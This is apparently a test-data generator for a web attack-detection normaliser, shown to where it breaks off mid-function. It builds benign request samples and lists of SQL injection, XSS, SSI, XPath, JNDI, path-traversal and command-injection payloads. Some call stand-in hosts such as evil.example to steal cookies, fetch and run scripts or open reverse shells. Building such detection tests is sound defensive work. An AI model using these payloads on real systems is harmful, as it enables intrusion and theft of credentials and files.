"""Writes the threat-rule corpora: tests/data/benign/*.jsonl and tests/data/attacks/*.jsonl.

Deterministic (fixed seed, no network): classic payload templates written here, combined with
the evasions the normaliser must undo (percent, double percent, HTML entities, \\u escapes, mixed
case, /**/ comments, tabs/newlines, NUL) and placed where a request carries them (path, query,
header, body). Run: .venv/bin/python -m tests.security.make_corpus
"""

from __future__ import annotations

import json
import random
import re
from pathlib import Path
from urllib.parse import quote, quote_plus

DATA = Path(__file__).resolve().parent.parent / "data"
RNG = random.Random(20240505)

# ---------------------------------------------------------------------------------------------
# Benign
# ---------------------------------------------------------------------------------------------
FIRST = ["Liam", "Olivia", "Noah", "Emma", "Seán", "Zoë", "Mateo", "Aisha", "Chen", "Priya",
         "Jürgen", "Fatima", "Kwame", "Ingrid", "Diego", "Yuki", "Tom", "Jerry", "Grace", "Omar"]
LAST = ["O'Brien", "D'Angelo", "O'Neil-Smith", "O'Connor", "D'Souza", "McDonald", "van der Berg",
        "Smith", "García", "Nguyen", "L'Estrange", "Dell'Acqua", "O'Hara", "N'Diaye", "Kowalski",
        "D'Arcy", "St. John", "Müller", "O'Reilly", "Al-Sayed"]
CITIES = ["Dublin", "Cork", "Boston", "Lagos", "Pune", "Kraków", "São Paulo", "Osaka", "Lyon",
          "Toronto", "Nairobi", "Austin"]
PRODUCTS = ["Union Square tote bag", "Drop-leaf table", "Select Blend coffee", "Script pen set",
            "Order organiser", "Alert whistle", "Exec chair", "Grant's whisky glass",
            "Shell necklace", "Cat tree (large)", "Sleep mask", "Ping-pong paddles",
            "Table runner", "Update kit", "Insert cushions", "Command strips"]

PROSE = [
    "Please select the blue one and drop it off at the front desk.",
    "I'd like to order by Friday if possible; my union meeting is on Saturday.",
    "Can you update the delivery date? I can't be home on Tuesday.",
    "The credit union sent a letter, select 'paperless' to stop them.",
    "We had to drop the table from the report because it was too wide.",
    "Our script writer loves the new onboarding flow.",
    "She said \"don't worry\" and left the parcel with the neighbour.",
    "5 < 6 and 7 > 3, so the total is correct.",
    "Tom & Jerry, R&D, and Q&A are all on the agenda.",
    "Salt & pepper; more later.",
    "Fish & chips | more info at the counter.",
    "Set an alert (for price drops) on this item.",
    "Alert: your order has shipped!",
    "The exec team reviewed the quarterly numbers.",
    "Order by date, then by name, please.",
    "Union Station is the nearest stop; take the 5 or 6 bus.",
    "Insert coin, select drink, press start.",
    "Delete from my wishlist the red shoes, please.",
    "I tried to select all and nothing happened.",
    "The update to version 2.3 fixed my sign-in problem.",
    "Javascript is disabled in my browser, is that why the page is blank?",
    "JavaScript: The Good Parts is on my reading list.",
    "He's the director of the drama club's script committee.",
    "Rock 'n' roll never dies.",
    "It's 'on' or 'off', nothing in between.",
    "Wait... where did my order go?",
    "Hmm... I'm not sure.../ anyway, thanks!",
    "My cat's name is Whiskers; she likes to sleep on the keyboard.",
    "Please ping me when it arrives.",
    "Find more details on our help page.",
    "We sell shells, sand dollars & more.",
    "The script ran for 5 minutes and then stopped.",
    "That's a 10/10 from me - would order again!",
    "It's 100% cotton; wash at 30°C.",
    "Fixed a NullPointerException in the checkout service last week.",
    "The method returns java.lang.String, not an Integer.",
    "We're moving from Java 8 to Java 17 next quarter.",
    "The error was an IOException while reading the upload.",
    "Use the <b>bold</b> tag for emphasis.",
    "Press the # key and then 1 to confirm.",
    "Call me at +1 (555) 010-9999 after 6 pm.",
    "Ship to: 12 O'Connell St, Dublin 1, D01 F5P2.",
    "The \"or\" in the title should be lowercase.",
    "Is 'select' a reserved word? Just curious.",
    "I need to drop off the rental car at the airport.",
    "Please cancel order #4521 and refund to my card.",
    "We had a power cut; the system was down for an hour.",
    "Grandma's recipe: mix flour & sugar; bake 20 min at 180°C.",
    "His handle is @o_brien and his email is sean.obrien@example.ie.",
    "Cheers from the R&D team in Kraków!",
    "The union of the two sets is empty, as expected.",
    "Select Comfort mattress, queen size, firm.",
    "She's the CEO's executive assistant.",
    "Our alert system sends SMS and email.",
    "Edit /etc/hosts on your laptop to point the domain at staging.",
    "The config lives in /usr/local/etc/app/config.yaml on Linux.",
    "On Windows it is under C:\\Program Files\\Acme\\settings.ini.",
    "See ../README.md for setup instructions.",
    "The logs are in ./logs/app.log and rotate daily.",
    "We keep backups in /var/backups and S3.",
    "Use the command palette (Ctrl+Shift+P) to run the task.",
    "The cat command prints a file; the head command prints the first lines.",
    "Type your name and press enter.",
    "Run the tests with make test; it takes a minute.",
    "Try `npm install && npm test` after cloning.",
    "Run `git pull && make` to get the latest build.",
    "The document describes how the expression is evaluated.",
    "A regular expression (regex) can match email addresses.",
    "Our onload survey had a 12% response rate.",
    "I love the online store; the offline one is nice too.",
    "Windows 11 users: open Settings > Apps > Installed apps.",
    "The SELECT statement is the most common SQL command.",
    "Don't forget: DROP by the office to pick up your badge.",
    "My name is D'Angelo and it keeps getting rejected on other sites!",
    "O'Neil-Smith & Sons, est. 1921.",
    "Say 'hello' and wave.",
    "Prices: 3 for $10, or 5 for $15.",
    "The ratio is 3:2 and the score was 2-1.",
    "If x < y then swap them; otherwise continue.",
    "Use <br> to break a line in the description.",
    "Bring snacks; sleep well and see you at 9!",
    "Tea or coffee? Either is fine.",
    "This or that: which one is better for a small kitchen?",
    "Rated 4 or 5 stars by most buyers.",
    "Visit https://example.com/help?topic=returns&lang=en for details.",
    "Our API docs are at https://api.example.com/v2/docs#orders.",
    "Tracking: https://track.example.net/pkg/1Z999AA10123456784",
    "The exception handler logs the stack trace to our error tracker.",
    "The 'Caused by' line in the logs pointed to a database timeout.",
    "I got an error saying something about a thread in the log.",
    "The --verbose flag prints more output.",
    "-- Sent from my phone",
    "Add a comment: '# TODO' marks unfinished work.",
    "Gift message: Happy birthday, Seán! Love, Zoë & Mateo",
    "Is it possible to order 1 or 2 extra cables?",
    "Color: '#ff8800' or '#00aaff', either works.",
    "The command line tool is called 'fastgate' and it's great.",
    "Delivery window: 10:00-12:00; leave at the back door.",
    "Half & half, please, not whole milk.",
    "He wrote 'count(*)' in the spreadsheet by mistake.",
    "Your password must contain 8+ characters & a number.",
    "Why does my invoice say 'N/A' for the tax line?",
    "Please don't call before 9; I work nights.",
    "The meeting is 3-4pm; agenda: budget, hiring, & misc.",
    "An HTML comment looks like <!-- this --> and is ignored.",
    "In C you write #include <stdio.h> at the top.",
    "PHP developers use self::CONST and parent::__construct().",
    "The name() function in our template returns the user's display name.",
    "The shell script prints 'done' when finished.",
    "Sleep (8 hours) is the best medicine.",
    "I'd rate it 2 and a half stars.",
    "Our XPath tutorial covers predicates and axes.",
    "The path was /api/v1/users/42/orders?page=2.",
    "Ellipsis test: and then... nothing.",
    "Version 1.2.3 -> 1.2.4: fixed typo in 'O'Brien' display.",
    "Ref: INV-2024-00042 / PO 7781-A",
    "My son's school is St. Mary's; deliver there on weekdays.",
    "Set the timer for 10 minutes, then stir.",
    "Please echo this message to the rest of the team.",
    "More than 5 and less than 10 items qualify for free shipping.",
    "I typed 'or' instead of 'on' in my address, sorry!",
    "We offer 24/7 support via chat & phone.",
    "The files are named report_2024-05-01.csv and report_2024-05-02.csv.",
    "SELECT is a keyword; so are FROM, WHERE and ORDER BY.",
    "The word 'script' appears 3 times in the contract.",
    "Drop shipping is available for orders over $500.",
]

# Near misses: each is one token short of a rule (kept here so a looser rule shows up as an FP).
PROSE += [
    "Thanks; PS the box was damaged.", "O'Brien's order #12 -- please rush.",
    "Kids' toys; more at the back.", "I'd like it in 'red' or 'blue' is fine.",
    "My favourite bands: AC/DC, Guns N' Roses & more", "Use the 'or' operator: a or b.",
    "He said: 'drop it' and left.", "The sign said 'Union Select' on it.",
    "Grade: 'A' and 'B' students only.", "See page 3; cat lovers will enjoy it.",
    "Mix; sleep 8 hours; repeat.", "dogs | cats | birds", "Meet at 5 & dine at 7.",
    "Use curl to download files.", "I curl my hair; wget is a tool.", "run: ls -la",
    "\"Hello\" -- said Bob.", "'Hello' -- said Bob.", "It's D'Angelo's turn -- no exceptions.",
    "Java error: something broke.", "Error: com.acme module missing.",
    "The exception java.lang.NullPointerException was thrown.",
    "/var/log/nginx/access.log shows 404s.", "document.title is nice.", "Set an alert (1 per day).",
    "Alert (important): read this.", "prompt engineering is fun", "confirm your email address",
    "eval is evil", "name(s) and count(s) in the report", "text() is an XPath node test",
    "//comment in code", "See http://example.com//path for details.",
    "The ratio a<b and c>d holds.", "1 or 2 items, please.", "Order 55; ID 12345.",
    "Bread & more", "R&D | ID card", "x = 3 and y = 4", "Tea & toast; coffee & cake.",
    "Top 10 union select members of the board.", "We select 5, union 3, and drop 2.",
    "Get ready; set; go!", "It's on the 2nd floor; more info at reception.",
    "He's 6' tall -- taller than me.", "Model 3' #2 is out of stock.",
    "Call (555) 123-4567 or email help@example.com.", "Use ${HOME}/bin in your PATH.",
    "jQuery: `$(document).ready(fn)` runs after load.", "Template: `${user.name}` is replaced.",
]

CODE_SNIPPETS = [
    "Use `SELECT name FROM users WHERE id = ?` with a bound parameter, never string concatenation.",
    "Query example: `SELECT id, total FROM orders ORDER BY created_at DESC LIMIT 10`.",
    "The report uses `SELECT count(*) FROM orders WHERE status = 'shipped'`.",
    "In Python: `for row in cursor.execute(sql, params): print(row)`.",
    "JS: `const total = items.reduce((a, b) => a + b.price, 0);`",
    "Snippet: `if (a < b && b > c) { return a; }`",
    "Use `document.getElementById('cart').classList.add('open')` to open the drawer.",
    "Example: `fetch('/api/orders').then(r => r.json())`.",
    "Call `JSON.parse(text)` and handle the error.",
    "In Java: `Optional.ofNullable(user).map(User::getName).orElse(\"anon\")`.",
    "The regex `^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$` validates emails.",
    "Bash: `for f in *.csv; do wc -l \"$f\"; done`",
    "Docker: `docker run -p 8080:8080 acme/api:1.4`",
    "Import it with `import { formatPrice } from '../utils/money'`.",
    "CSS: `.btn:hover { color: #fff; background: #0055aa; }`",
    "Markdown table: | name | qty |\n|------|-----|\n| pen | 2 |",
    "SQL tip: `UPDATE` statements need a `WHERE` clause.",
    "Use `git log --oneline | head -20` to see recent commits.",
    "YAML: `retries: 3` and `timeout: 30s` under `upstream:`.",
    "Go: `if err != nil { return fmt.Errorf(\"load: %w\", err) }`",
    "Rust: `let v: Vec<u8> = data.iter().map(|b| b ^ 0x20).collect();`",
    "Kotlin: `val name = user?.name ?: \"guest\"`",
    "C#: `var q = db.Orders.Where(o => o.Total > 100).OrderBy(o => o.Date);`",
]

SEARCHES = [
    "o'brien", "d'angelo pizza", "select comfort mattress", "drop leaf table", "union jack flag",
    "order tracking", "script font", "alert bracelet", "exec chair leather", "cat & dog toys",
    "r&d tax credit", "tom & jerry dvd", "5 < 6 math worksheet", "rock 'n' roll records",
    "men's shoes size 10", "women's jackets", "kids' books", "children's toys", "o'neil-smith",
    "java programming book", "javascript for beginners", "sql for dummies", "drop shipping",
    "how to order by phone", "where is my order", "update address", "delete account",
    "insert cushion 45x45", "sleep mask silk", "ping pong table", "find my order",
    "more like this", "head torch", "tail light", "type c cable", "dir en grey cd",
    "net curtains", "echo dot", "cat5e cable 10m", "alert 1 security camera", "prompt cards",
    "confirm order", "100% wool", "c++ primer", "c# in depth", "f# guide", "50% off",
    "1+1 offer", "a/b testing book", "usb-c to usb-a", "the 'best' kettle", "\"exact phrase\"",
    "price < 20", "rating > 4", "size: xl", "color:red", "brand=acme", "café crème",
    "naïve art prints", "jalapeño sauce", "über cool", "smörgåsbord", "日本茶", "ДОСТАВКА",
]


def _uuid() -> str:
    a, b, c = RNG.getrandbits(32), RNG.getrandbits(16), RNG.getrandbits(12)
    d, e = 0x8000 | RNG.getrandbits(14), RNG.getrandbits(48)
    return f"{a:08x}-{b:04x}-4{c:03x}-{d:04x}-{e:012x}"


def _b64(n: int) -> str:
    import base64
    return base64.b64encode(bytes(RNG.getrandbits(8) for _ in range(n))).decode()


def _name() -> str:
    return f"{RNG.choice(FIRST)} {RNG.choice(LAST)}"


def _email(name: str) -> str:
    local = re.sub(r"[^a-z.]", "", name.lower().replace(" ", "."))
    return f"{local}@{RNG.choice(['example.com', 'mail.example.ie', 'corp.example.org'])}"


def _phone() -> str:
    return RNG.choice(["+1 (555) %03d-%04d", "+353 1 %03d %04d", "0%03d %04d", "+44 20 %03d %04d"]) % (
        RNG.randrange(1000), RNG.randrange(10000))


def _date() -> str:
    return f"2024-{RNG.randrange(1, 13):02d}-{RNG.randrange(1, 29):02d}T{RNG.randrange(24):02d}:" \
           f"{RNG.randrange(60):02d}:00Z"


def _text() -> str:
    pool = PROSE if RNG.random() < 0.85 else CODE_SNIPPETS
    return " ".join(RNG.choice(pool) for _ in range(RNG.randrange(1, 3)))


def _order() -> dict:
    name = _name()
    return {
        "id": _uuid(), "created": _date(), "status": RNG.choice(["new", "paid", "shipped"]),
        "customer": {"name": name, "email": _email(name), "phone": _phone(),
                     "address": {"line1": f"{RNG.randrange(1, 200)} O'Connell St",
                                 "city": RNG.choice(CITIES), "zip": f"D0{RNG.randrange(10)} X{RNG.randrange(99)}"}},
        "items": [{"sku": f"SKU-{RNG.randrange(10**6):06d}", "name": RNG.choice(PRODUCTS),
                   "qty": RNG.randrange(1, 5), "price": round(RNG.uniform(1, 300), 2)}
                  for _ in range(RNG.randrange(1, 4))],
        "notes": _text(), "gift": RNG.random() < 0.2,
        "coupon": RNG.choice([None, "SPRING-10", "R&D-STAFF", "O'BRIEN50"]),
    }


def _user() -> dict:
    name = _name()
    return {"username": re.sub(r"\W", "", name.lower())[:12] + str(RNG.randrange(100)),
            "display_name": name, "email": _email(name), "bio": _text(),
            "avatar": f"data:image/png;base64,{_b64(24)}", "locale": RNG.choice(["en-IE", "fr-FR", "de-DE"]),
            "website": f"https://{RNG.choice(['blog', 'www'])}.example.com/~{name.split()[0].lower()}",
            "api_token_hint": _b64(9), "birthday": _date()[:10]}


def _comment() -> dict:
    return {"post_id": RNG.randrange(10**5), "author": _name(), "body": _text(),
            "reply_to": RNG.choice([None, _uuid()]), "created_at": _date()}


def _product() -> dict:
    return {"title": RNG.choice(PRODUCTS), "description": _text() + " " + _text(),
            "price": {"amount": round(RNG.uniform(1, 999), 2), "currency": "EUR"},
            "tags": RNG.sample(["sale", "new", "select", "union-made", "drop", "script", "exec"], 3),
            "image": f"https://cdn.example.com/img/{_uuid()}.jpg",
            "html": RNG.choice(["<p>Soft &amp; warm.</p>", "<b>New!</b> 2 &lt; 3 sizes",
                                "<img src=\"https://cdn.example.com/a.png\" alt=\"Tom &amp; Jerry\">",
                                "<a href=\"https://example.com/size-guide\">Size guide</a>",
                                "<ul><li>Cotton</li><li>Hand wash</li></ul>"])}


def _bug_report() -> dict:
    return {"title": RNG.choice(["Checkout fails", "Can't upload avatar", "Search is slow"]),
            "steps": "1. Open the cart\n2. Select 'Express'\n3. Click Order\n\tResult: spinner",
            "expected": "The order is placed.", "actual": _text(),
            "browser": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
                       "Chrome/124.0 Safari/537.36",
            "attachment": {"name": "screenshot.png", "data": _b64(90)}}


def benign() -> list[dict]:
    items: list[dict] = []
    for make, n in ((_order, 70), (_user, 40), (_comment, 60), (_product, 50), (_bug_report, 20)):
        for _ in range(n):
            doc = make()
            items.append({"where": "body", "kind": "json", "text": json.dumps(doc, ensure_ascii=RNG.random() < 0.3)})
    for p in PROSE + CODE_SNIPPETS:  # every prose line alone, as a JSON comment and as plain text
        items.append({"where": "body", "kind": "json", "text": json.dumps({"comment": p})})
        items.append({"where": "body", "kind": "body", "text": p})
        items.append({"where": "body", "kind": "query", "text": "subject=hi&message=" + quote_plus(p)})
    for s in SEARCHES:
        items.append({"where": "query", "kind": "query", "text": "q=" + quote_plus(s) + "&page=1&sort=relevance"})
        items.append({"where": "query", "kind": "query", "text": "q=" + quote(s, safe="")})
    for _ in range(60):
        name = _name()
        items.append({"where": "query", "kind": "query", "text": "name=" + quote_plus(name) + "&email="
                      + quote_plus(_email(name)) + "&since=" + _date()[:10]})
    for p in RNG.sample(PROSE, 40):
        items.append({"where": "query", "kind": "query", "text": "note=" + quote_plus(p)})
    paths = [f"/api/v1/users/{_uuid()}", "/api/v1/orders/4521/items", "/static/css/site.min.css",
             "/api/v1/search/o%27brien", "/api/v1/people/D%27Angelo", "/files/report_2024-05-01.csv",
             "/api/v2/products/drop-leaf-table", "/api/v2/products/select-blend-coffee",
             "/blog/2024/05/why-we-love-sql", "/api/v1/scripts/onboarding", "/api/v1/union/members",
             "/docs/javascript/getting-started", "/api/v1/exec/summary", "/img/a..b.png",
             "/downloads/v1.2..v1.3.diff", "/api/v1/tags/r%26d", "/api/v1/notes/tom%20%26%20jerry",
             "/api/v1/commands/cat", "/api/v1/ping", "/wiki/Java_(programming_language)",
             "/api/v1/xml/count", "/api/v1/users/o'neil-smith/orders", "/%E6%97%A5%E6%9C%AC"]
    for p in paths:
        items.append({"where": "path", "kind": "path", "text": p})
    headers = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
        "curl/8.5.0", "python-requests/2.31.0", "PostmanRuntime/7.37.3",
        "application/json, text/plain, */*", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
        "en-IE,en;q=0.9,ga;q=0.8", "gzip, deflate, br", "no-cache", "keep-alive",
        "https://shop.example.com/cart?step=2&coupon=O%27BRIEN50",
        f"session={_b64(18)}; theme=dark; consent=1", f"W/\"{_uuid()}\"",
        "attachment; filename=\"O'Brien & Sons - invoice.pdf\"", "bytes=0-1023",
        "Tue, 07 May 2024 10:00:00 GMT", "198.51.100.7, 203.0.113.9", _uuid(),
        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
        "max-age=31536000; includeSubDomains", "D'Angelo Pizza Ltd.", "Tom & Jerry Ltd; R&D dept",
        f"trace-id={_uuid()};span={RNG.randrange(10**6)}",
    ]
    for h in headers:
        items.append({"where": "header", "kind": "header", "text": h})
    for _ in range(30):
        items.append({"where": "header", "kind": "header", "text": _name()})
    return items


# ---------------------------------------------------------------------------------------------
# Attacks: base payloads per class
# ---------------------------------------------------------------------------------------------
SQL_BASE = [
    "' or 1=1--", "' or '1'='1", "\" or \"1\"=\"1", "' or 'a'='a", "') or ('1'='1",
    "admin'--", "admin' #", "admin'/*", "' or 1=1#", "1' and '1'='1", "1 or 1=1", "1 and 1=2",
    "' or ''='", "' or true--", "') or true--", "1' or 1=1 limit 1 -- ",
    "' union select null,null,null--", "1 union all select 1,2,3", "' union select username, password from users--",
    "-1 union select @@version,2", "1' union select table_name from information_schema.tables--",
    "'; drop table users--", "1; drop table orders", "'; exec xp_cmdshell 'dir'--",
    "'; shutdown--", "1; waitfor delay '0:0:5'--", "' and sleep(5)--", "1 and sleep(5)",
    "' or pg_sleep(5)--", "1 and benchmark(5000000,md5(1))", "' waitfor delay '00:00:05'--",
    "1 and ascii(substring((select password from users limit 1),1,1))>64",
    "' and length(database())=5--", "1 or exists(select * from users)",
    "' and extractvalue(1,concat(0x7e,(select user())))--",
    "' and updatexml(1,concat(0x7e,version()),1)--", "1' order by 3--", "1 order by 10#",
    "' group by 2--", "' having 1=1--", "'||(select user from dual)||'",
    "' + (select top 1 name from sysobjects) + '", "1; insert into users(name) values('x')",
    "'; update users set role='admin' where id=1--", "'; delete from users--",
    "' and 1=convert(int,@@version)--", "1 and 1=(select count(*) from sys.tables)",
    "' or 1 in (select @@version)--", "admin' or '1'='1'--", "x' and 'x'='x", "' or 'x' like 'x",
    "1' and (select 1 from (select sleep(5))a)--", "'; declare @x varchar(99); exec(@x)--",
    "' or username like '%admin%", "1 or 2>1 --", "' xor 1=1 #", "' || 1=1 --",
    "'; select load_file('/etc/passwd')--", "' union select 1 into outfile '/var/www/x.php'--",
    "1; select pg_sleep(5)", "' and 1=(select 1 from pg_user)--",
    "' or 1=1 --", "admin\" --", "1) or (1=1", "' or not 1=2 --",
]
XSS_BASE = [
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<SCRIPT>alert('xss')</SCRIPT>",
    "\"><script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(document.domain)\">", "<svg/onload=alert(1)>", "<svg onload=alert`1`>",
    "<body onload=alert(1)>", "<iframe src=\"javascript:alert(1)\"></iframe>", "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(1)", "javascript:alert(document.cookie)", "javascript://%0aalert(1)",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "\" autofocus onfocus=alert(1) x=\"",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
    "<video><source onerror=\"alert(1)\">", "<audio src=x onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=\"javascript:alert(1)\">",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<base href=\"javascript:alert(1)//\">",
    "<div style=\"width: expression(alert(1))\">", "<div style=\"background:url(javascript:alert(1))\">",
    "';alert(1)//", "\";alert(1)//", "'-alert(1)-'", "\"-alert(document.domain)-\"", "</script><script>alert(1)</script>",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>x</button>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<img src=1 onerror=document.location='//evil/'+document.cookie>",
    "<body onpageshow=alert(1)>", "<x onclick=alert(1)>click", "<style>@import 'javascript:alert(1)';</style>",
    "vbscript:msgbox(1)", "<img src=x:alert(alt) onerror=eval(src) alt=0>", "<script>fetch('//evil.example/'+document.cookie)</script>",
    "\"><img src=x onerror=prompt(1)>", "<svg><script>alert(1)</script></svg>", "<iframe src=//evil.example/phish>",
    "'};alert(1);//", "${alert(1)}", "<a href=javascript&colon;alert(1)>x</a>", "<img src=x oNeRrOr=confirm(1)>",
]
SSI_BASE = [
    "<!--#exec cmd=\"ls\" -->", "<!--#exec cmd=\"cat /etc/passwd\" -->", "<!--#exec cgi=\"/cgi-bin/x.cgi\" -->",
    "<!--#include virtual=\"/etc/passwd\" -->", "<!--#include file=\"secret.txt\" -->", "<!--#echo var=\"DOCUMENT_ROOT\" -->",
    "<!--#echo var=\"DATE_LOCAL\" -->", "<!--#printenv -->", "<!--#config timefmt=\"%A\" -->",
    "<!--#set var=\"x\" value=\"y\" -->", "<!--#fsize file=\"index.html\" -->", "<!--#flastmod virtual=\"/index.html\" -->",
    "<!--#if expr=\"$x = y\" -->", "<!-- #exec cmd=\"id\" -->", "<!--#exec cmd=\"wget http://evil.example/x\" -->",
    "<!--#exec cmd=\"nc -e /bin/sh 10.0.0.1 4444\" -->", "<!--#include virtual=\"/.htpasswd\" -->",
    "<esi:include src=\"http://evil.example/x\"/>", "<esi:vars>$(HTTP_COOKIE)</esi:vars>",
    "<esi:inline name=\"/x\" fetchable=\"yes\">", "<!--#config errmsg=\"x\" -->", "<!--#elif expr=\"1\" -->",
    "<!--#else -->", "<!--#endif -->", "<!--#echo encoding=\"none\" var=\"QUERY_STRING\" -->",
    "#exec cmd=\"ls\"", "#include virtual=\"/etc/passwd\"",
]
XPATH_BASE = [
    "' or '1'='1", "' or ''='", "\" or \"\"=\"", "x' or 1=1 or 'x'='y", "' or name()='username' or 'x'='y",
    "'] | //* | //*['", "')] | //user/*[contains(*,'", "' or count(/*)=1 or '", "' or count(/child::node())=1 or '",
    "' and string-length(name(/*[1]))=4 and '1'='1", "' and substring(name(/*[1]),1,1)='a' and '1'='1",
    "' or true() or '", "' and false() and '", "//user[name/text()='admin' or '1'='1']",
    "' or position()=1 or '", "admin' or '1'='1' or 'a'='a", "' or contains(name(..),'user') or '",
    "1 or count(//user)>0", "']/parent::*/child::node()[1]/text()|a['", "' or string(//user[1]/password)='x",
    "x' or name(/*)='root", "'] | /*[1] | ['", "//*[local-name()='password']", "' or starts-with(name(/*),'a') or '",
    "count(/descendant::*)", "/descendant-or-self::node()", "' or normalize-space(//user)='x",
]
JAVA_BASE = [
    "java.lang.NullPointerException: null\n\tat com.acme.web.OrderController.create(OrderController.java:42)",
    "Exception in thread \"main\" java.lang.IllegalStateException: boom\n\tat com.acme.Main.main(Main.java:7)",
    "java.sql.SQLException: ORA-00933: SQL command not properly ended\n\tat oracle.jdbc.driver.T4CTTIoer.processError(T4CTTIoer.java:450)",
    "org.springframework.web.util.NestedServletException: Request processing failed; nested exception is java.lang.RuntimeException",
    "Caused by: java.io.FileNotFoundException: /etc/app.conf (No such file or directory)",
    "javax.servlet.ServletException: java.lang.ClassCastException\n\tat org.apache.catalina.core.StandardWrapperValve.invoke(StandardWrapperValve.java:198)",
    "at sun.reflect.NativeMethodAccessorImpl.invoke0(Native Method)",
    "at java.base/java.lang.Thread.run(Thread.java:833)",
    "com.fasterxml.jackson.databind.exc.InvalidFormatException: Cannot deserialize value",
    "java.lang.ArrayIndexOutOfBoundsException: Index 5 out of bounds for length 5",
    "org.hibernate.exception.SQLGrammarException: could not extract ResultSet",
    "java.lang.OutOfMemoryError: Java heap space",
    "java.lang.StackOverflowError: null\n\tat com.acme.Tree.depth(Tree.java:12)",
    "Caused by: org.postgresql.util.PSQLException: ERROR: relation \"users\" does not exist",
    "at org.apache.struts2.dispatcher.Dispatcher.serviceAction(Dispatcher.java:567)",
    "weblogic.application.ModuleException: Failed to load webapp",
    "java.lang.reflect.InvocationTargetException: null\n\tat jdk.internal.reflect.GeneratedMethodAccessor12.invoke(Unknown Source)",
    "${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example:1099/x}", "${${lower:j}ndi:ldap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/z}", "${jndi:dns://evil.example/q}",
    "java.lang.Runtime.getRuntime().exec(\"id\")", "new java.lang.ProcessBuilder(\"sh\",\"-c\",\"id\").start()",
    "kotlin.KotlinNullPointerException: null\n\tat com.acme.App.run(App.kt:33)",
    "scala.MatchError: 42 (of class java.lang.Integer)",
    "org.xml.sax.SAXParseException: lineNumber: 1; columnNumber: 1; Content is not allowed in prolog.",
]
PT_BASE = [
    "../../../../etc/passwd", "../../../etc/shadow", "..\\..\\..\\windows\\win.ini", "../../boot.ini",
    "....//....//....//etc/passwd", "..;/..;/..;/etc/passwd", "/var/www/../../etc/passwd",
    "../etc/passwd", "..\\windows\\system32\\drivers\\etc\\hosts", "/etc/passwd", "file:///etc/passwd",
    "/proc/self/environ", "../../../../proc/self/cmdline", "../WEB-INF/web.xml", "../../.env",
    "../../../.ssh/id_rsa", "../.git/config", "..%00/etc/passwd", "../../../../etc/passwd%00.png",
    "/static/../../../etc/passwd", "/download?file=../../../../etc/hosts", "c:\\windows\\win.ini",
    "..././..././etc/passwd", "../../../../../../../../../../etc/issue", "../../../var/log/auth.log",
    "/images/../../../../root/.bash_history", "..\\..\\..\\inetpub\\wwwroot\\web.config",
    "../../../../usr/local/app/config.yaml", "/app/static/..", "/a/b/../../../c",
]
CMD_BASE = [
    "; cat /etc/passwd", "| id", "|| whoami", "&& uname -a", "`id`", "$(whoami)", "; ls -la",
    "127.0.0.1; cat /etc/passwd", "127.0.0.1 | id", "127.0.0.1 && whoami", "x; sleep 10",
    "; ping -c 10 127.0.0.1", "& ping -n 10 127.0.0.1 &", "| nc -e /bin/sh 10.0.0.1 4444",
    "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "; wget http://evil.example/x.sh -O /tmp/x.sh",
    "| curl http://evil.example/x | sh", "; curl -s http://evil.example/s | bash", "$(cat /etc/passwd)",
    "`cat /etc/shadow`", ";cat${IFS}/etc/passwd", ";id;", "a;id", "| whoami", "& dir c:\\",
    "| type c:\\windows\\win.ini", "& net user", "& ipconfig /all", "; rm -rf /tmp/x", "; echo $PATH",
    "; chmod 777 /tmp/x", "; python -c 'import os;os.system(\"id\")'", "; perl -e 'exec \"/bin/sh\"'",
    "| powershell -enc SQBFAFgA", "& powershell -nop -c \"iex(1)\"", "; mkfifo /tmp/f",
    "; nslookup evil.example", "$(sleep 5)", "`sleep 5`", "; /bin/sh -c id", "| /usr/bin/id",
    "; systeminfo", "& tasklist", "; env", "; printenv", "; find / -name '*.conf'", "; head -n 5 /etc/passwd",
    "; netstat -an", "; ifconfig", "| ls /", "&& cat /etc/hosts", "x|cat /etc/passwd", "test;echo${IFS}pwned",
]

SQL_KEYWORDS = re.compile(r"\b(select|union|or|and|from|where|order|by|sleep|drop|table|exec|insert"
                          r"|into|values|update|set|delete|like|limit|having|group|waitfor|delay)\b", re.I)


def _mixed_case(s: str) -> str:
    return "".join(c.upper() if RNG.random() < 0.5 else c.lower() for c in s)


def _pct(s: str, all_chars: bool = False) -> str:
    return "".join(f"%{b:02X}" if all_chars or not (chr(b).isalnum()) else chr(b) for b in s.encode())


def _html_ent(s: str) -> str:
    out = []
    for c in s:
        if c in "<>'\"(=:":
            out.append(RNG.choice([f"&#{ord(c)};", f"&#x{ord(c):x};", f"&#x{ord(c):04X};", f"&#{ord(c):05d};"]))
        else:
            out.append(c)
    s2 = "".join(out)
    return s2.replace("&#60;", "&lt;") if RNG.random() < 0.5 else s2


def _u_esc(s: str) -> str:
    """A JSON string body with the markup/quote characters as \\u escapes (as many encoders do)."""
